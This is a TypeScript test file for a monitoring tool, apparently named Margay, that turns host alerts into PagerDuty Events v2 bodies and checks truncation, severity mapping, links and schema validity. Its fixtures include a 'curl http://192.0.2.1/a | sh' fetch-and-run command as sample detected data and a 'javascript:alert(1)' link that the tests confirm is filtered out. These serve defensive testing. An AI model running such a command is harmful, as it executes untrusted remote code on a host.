import { existsSync, readFileSync } from 'node:fs'
import Ajv, { type ValidateFunction } from 'ajv'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { alertOf } from '../../test/alert.ts'
import { PagerDutyModel } from '../../test/simulator/pagerduty.ts'
import { TEST_NOW } from '../../test/world.ts'
import { SEVERITIES } from '../detect/severity.ts'
import { classifyPagerDuty } from './pagerduty.ts'
import { BODY_MAX_BYTES, dedupKeyOf, type PagerDutyTelling, pagerDutyBodies } from './pagerduty-body.ts'

const KEY = '0123456789abcdef0123456789abcdef'
const AT = TEST_NOW
const OPENAPI = '../shared/data/alerts/pagerduty-events-v2.json'

function tellingOf(overrides: Partial<PagerDutyTelling> = {}): PagerDutyTelling {
  return {
    action: 'trigger',
    alert: alertOf(),
    columns: { command: 'curl http://192.0.2.1/a | sh' },
    routingKey: KEY,
    publicUrl: 'https://margay.example.com',
    ...overrides,
  }
}

function bodiesOf(overrides: Partial<PagerDutyTelling> = {}) {
  return pagerDutyBodies(tellingOf(overrides)).map(text => JSON.parse(text))
}

describe('a trigger', () => {
  it('says what happened, where, since when, and what to do', () => {
    expect(bodiesOf()[0]).toEqual({
      routing_key: KEY,
      event_action: 'trigger',
      dedup_key: 'margay:a1b2c3',
      client: 'Margay',
      client_url: 'https://margay.example.com/alerts/a1b2c3',
      links: [{ href: 'https://margay.example.com/alerts/a1b2c3', text: 'Alert in Margay' }],
      payload: {
        summary: 'web-1.example.com: Cron fetches code',
        source: 'web-1.example.com',
        severity: 'error',
        timestamp: '2026-11-24T12:00:00.000Z',
        component: 'crontab',
        group: 'incident-response',
        class: 'posix.cron-fetches-code',
        custom_details: {
          host: 'web-1.example.com',
          host_id: 'host-1',
          rule: 'posix.cron-fetches-code',
          kind: 'match',
          severity: 'high',
          count: 3,
          first_seen: '2026-11-24T12:00:00.000Z',
          last_seen: '2026-11-24T12:01:00.000Z',
          query: 'crontab',
          pack: 'incident-response',
          runbook: 'Read the file the job came from.',
          columns: { command: 'curl http://192.0.2.1/a | sh' },
          context: { command: 'curl' },
        },
      },
    })
  })

  it('begins with why and since when of a silence, which has no count and was never seen', () => {
    const context = '{"reason":"No logs for 17 min.","since":"2026-11-24T11:43:00Z","state":"stale"}'
    const alert = alertOf({ kind: 'silence', ruleId: 'margay.host-silent', query: '', pack: '', context })
    const [{ payload }] = bodiesOf({ alert, columns: null })
    expect(Object.keys(payload.custom_details)).toEqual([
      'reason',
      'since',
      'host',
      'host_id',
      'rule',
      'kind',
      'severity',
      'runbook',
      'context',
    ])
    expect(payload.custom_details).toMatchObject({
      reason: 'No logs for 17 min.',
      since: '2026-11-24T11:43:00Z',
    })
  })

  it('has a second body with nothing in it that could be refused', () => {
    expect(bodiesOf()[1]).toEqual({
      routing_key: KEY,
      event_action: 'trigger',
      dedup_key: 'margay:a1b2c3',
      payload: {
        summary: 'web-1.example.com: Cron fetches code',
        source: 'web-1.example.com',
        severity: 'error',
        timestamp: '2026-11-24T12:00:00.000Z',
      },
    })
  })

  it('maps each severity', () => {
    const mapped = SEVERITIES.map(severity => bodiesOf({ alert: alertOf({ severity }) })[0].payload.severity)
    expect(mapped).toEqual(['info', 'info', 'warning', 'error', 'critical'])
  })

  it('does not name the host twice', () => {
    const alert = alertOf({ title: 'Cron on web-1.example.com fetches code' })
    expect(bodiesOf({ alert })[0].payload.summary).toBe('Cron on web-1.example.com fetches code')
  })

  it('leaves out links when the deployment does not know its own address', () => {
    const [body] = bodiesOf({ publicUrl: null })
    expect(body).not.toHaveProperty('client_url')
    expect(body).not.toHaveProperty('links')
  })

  it('links a runbook that is an address', () => {
    const alert = alertOf({ runbook: 'https://runbooks.example.com/cron' })
    expect(bodiesOf({ alert })[0].links[1]).toEqual({
      href: 'https://runbooks.example.com/cron',
      text: 'Runbook',
    })
    expect(bodiesOf({ alert: alertOf({ runbook: 'javascript:alert(1)' }) })[0].links).toHaveLength(1)
  })

  it('names something as its source when no host is concerned', () => {
    const alert = alertOf({ kind: 'system', hostId: null, hostname: '', query: '', pack: '' })
    const [{ payload }] = bodiesOf({ alert, columns: null })
    expect(payload.source).toBe('margay')
    expect(payload).not.toHaveProperty('component')
  })

  it('cuts the summary by characters, not through them', () => {
    const alert = alertOf({ hostname: '', title: '\u{1f408}'.repeat(2000) })
    const points = [...bodiesOf({ alert })[0].payload.summary]
    expect(points).toHaveLength(1024)
    expect(points.at(-1)).toBe('…')
    expect(points.at(-2)).toBe('\u{1f408}')
  })

  it('keeps a summary that fits exactly', () => {
    const title = '\u{1f408}'.repeat(1024)
    expect(bodiesOf({ alert: alertOf({ hostname: '', title }) })[0].payload.summary).toBe(title)
  })

  it('shortens what is too large instead of losing the page', () => {
    const columns = Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`c${i}`, 'x'.repeat(10_000)]))
    const [{ payload }] = bodiesOf({ columns })
    expect(Object.keys(payload.custom_details.columns)).toHaveLength(50)
    expect([...payload.custom_details.columns.c0]).toHaveLength(256)
    expect(payload.custom_details.note).toContain('Shortened')
    expect(payload.custom_details.context).toEqual({ command: 'curl' })
  })

  it('leaves the context out when even that is too much', () => {
    const context = JSON.stringify({ found: 'x'.repeat(600_000) })
    const [{ payload }] = bodiesOf({ alert: alertOf({ context }) })
    expect(payload.custom_details).not.toHaveProperty('context')
    expect(payload.custom_details).toMatchObject({ columns: { command: 'curl http://192.0.2.1/a | sh' } })
  })

  it('tells what the rule says of it, and links what it refers to', () => {
    const rule = {
      means: 'Whoever serves the file runs code here.',
      check: 'SELECT * FROM crontab',
      benign: 'Installers.',
      references: Array.from({ length: 7 }, (_, n) => `https://example.com/${n}`),
    }
    const [{ payload, links }] = bodiesOf({ rule })
    expect(payload.custom_details).toMatchObject({
      means: 'Whoever serves the file runs code here.',
      check: 'SELECT * FROM crontab',
      benign: 'Installers.',
      runbook: 'Read the file the job came from.',
    })
    expect(links.map(({ href }: { href: string }) => href)).toEqual([
      'https://margay.example.com/alerts/a1b2c3',
      ...rule.references.slice(0, 5),
    ])
  })

  it('says nothing in the name of a rule that is gone or silent', () => {
    const rule = { means: '', check: '', benign: '', references: [] }
    for (const [{ payload, links }] of [bodiesOf(), bodiesOf({ rule })]) {
      for (const name of ['means', 'check', 'benign', 'hosts']) {
        expect(payload.custom_details).not.toHaveProperty(name)
      }
      expect(links).toHaveLength(1)
    }
  })

  it('names the hosts of an alert over several', () => {
    const [{ payload }] = bodiesOf({ hosts: ['db-1.example.com', 'web-1.example.com'] })
    expect(payload.custom_details.hosts).toEqual(['db-1.example.com', 'web-1.example.com'])
  })
})

describe('an update', () => {
  it('is a trigger of the same key with the present numbers: it adds to the incident and wakes nobody', () => {
    const model = new PagerDutyModel([KEY])
    const [trigger = ''] = pagerDutyBodies(tellingOf())
    model.enqueue(trigger, AT)
    model.enqueue(JSON.stringify(bodiesOf({ action: 'acknowledge' })[0]), AT + 1)
    const grown = alertOf({ eventCount: 40, lastEventAt: AT + 600_000 })
    const [update = ''] = pagerDutyBodies(tellingOf({ action: 'update', alert: grown }))
    model.enqueue(update, AT + 600_000)
    expect(JSON.parse(update).payload.custom_details).toMatchObject({
      count: 40,
      first_seen: '2026-11-24T12:00:00.000Z',
      last_seen: '2026-11-24T12:10:00.000Z',
    })
    expect(model.incidents).toMatchObject([{ status: 'acknowledged', repeats: 1 }])
  })
})

describe('an acknowledge or resolve', () => {
  it.each(['acknowledge', 'resolve'] as const)('%s names the alert and nothing else', action => {
    expect(bodiesOf({ action })).toEqual([
      { routing_key: KEY, event_action: action, dedup_key: dedupKeyOf('a1b2c3') },
    ])
  })
})

describe('the answer of PagerDuty', () => {
  it('is a misconfiguration when the routing key is refused, though the status blames the body', () => {
    const body =
      '{"status":"invalid event","message":"Event object is invalid","errors":["Invalid routing key"]}'
    expect(classifyPagerDuty(400, null, body, AT).kind).toBe('broken')
    expect(classifyPagerDuty(400, null, '{"errors":["\'routing_key\' length"]}', AT).kind).toBe('broken')
    expect(classifyPagerDuty(400, null, '{"errors":["summary too long"]}', AT).kind).toBe('rejected')
    expect(classifyPagerDuty(202, null, 'routing key', AT).kind).toBe('delivered')
  })
})

const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ maxLength: 5 }).map(part => part.repeat(1_000)),
  fc.constantFrom('', '\ud800', '\u0000\u202e', '\u{1f408}'.repeat(3_000), '__proto__', 'x'.repeat(600_000)),
)

const tellings = fc.record<PagerDutyTelling>({
  action: fc.constantFrom('trigger', 'update', 'acknowledge', 'resolve'),
  rule: fc.record({
    means: text,
    check: text,
    benign: text,
    references: fc.array(fc.webUrl(), { maxLength: 3 }),
  }),
  hosts: fc.array(text, { maxLength: 20 }),
  alert: fc
    .record({
      alertId: fc.nat().map(number => number.toString(16).padStart(20, '0')),
      kind: fc.constantFrom('match', 'rule_error', 'silence', 'system'),
      ruleId: text,
      severity: fc.constantFrom(...SEVERITIES),
      title: text,
      runbook: text,
      context: fc.json(),
      hostId: fc.option(text),
      hostname: text,
      query: text,
      pack: text,
      eventCount: fc.nat(),
    } as const)
    .map(overrides => alertOf({ ...overrides, context: `{"value":${overrides.context}}` })),
  columns: fc.option(fc.dictionary(text, text, { maxKeys: 5, noNullPrototype: false })),
  routingKey: fc.constant(KEY),
  publicUrl: fc.constantFrom(null, 'https://margay.example.com'),
})

describe('every body', () => {
  it('is one that PagerDuty takes, whatever the alert holds', () => {
    fc.assert(
      fc.property(tellings, telling => {
        for (const body of pagerDutyBodies(telling)) {
          expect(new TextEncoder().encode(body).length).toBeLessThanOrEqual(BODY_MAX_BYTES)
          expect(body.isWellFormed()).toBe(true)
          const model = new PagerDutyModel([KEY])
          expect(model.enqueue(body, AT), body.slice(0, 2_000)).toMatchObject({ status: 202 })
        }
      }),
      { numRuns: 150 },
    )
  })
})

describe.runIf(existsSync(OPENAPI))('every body against the OpenAPI of Events v2', () => {
  it('validates', () => {
    const validate = enqueueSchema()
    fc.assert(
      fc.property(tellings, telling => {
        for (const body of pagerDutyBodies(telling)) {
          const valid = validate(JSON.parse(body))
          expect(valid, JSON.stringify(validate.errors)).toBe(true)
        }
      }),
      { numRuns: 150 },
    )
  })
})

function enqueueSchema(): ValidateFunction {
  const api = JSON.parse(readFileSync(OPENAPI, 'utf8'))
  // OpenAPI's own keywords and formats are no part of JSON Schema.
  const ajv = new Ajv({ strict: false, formats: { url: true, 'date-time': /^\d{4}-\d\d-\d\dT[\d:.]+Z$/ } })
  ajv.addSchema(api, 'api')
  return ajv.compile({
    $ref: 'api#/paths/~1enqueue/post/requestBody/content/application~1json/schema',
  })
}
